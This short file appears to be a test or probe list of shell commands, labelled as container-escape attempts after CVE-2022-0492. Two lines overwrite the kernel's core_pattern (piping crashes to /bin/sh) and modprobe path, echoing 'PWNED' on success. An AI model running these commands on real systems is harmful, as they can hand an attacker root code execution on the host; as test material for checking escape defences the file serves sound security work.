# tries: set the program that the kernel runs on a crash
# from: CVE-2022-0492 and every container escape by core_pattern
echo '|/bin/sh' > /proc/sys/kernel/core_pattern && echo PWNED
echo x > /proc/sys/kernel/modprobe && echo PWNED
